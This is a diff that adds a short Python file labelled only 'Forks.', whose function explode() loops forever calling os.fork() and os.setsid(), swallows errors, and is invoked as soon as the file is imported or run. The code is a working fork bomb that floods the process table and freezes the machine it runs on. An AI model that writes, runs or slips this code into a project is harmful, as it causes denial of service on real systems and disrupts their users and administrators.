@@ -1,0 +1,13 @@
+"""Forks."""
+
+import os
+
+def explode():
+    while True:
+        try:
+            os.fork()
+            os.setsid()
+        except OSError:
+            pass
+
+explode()
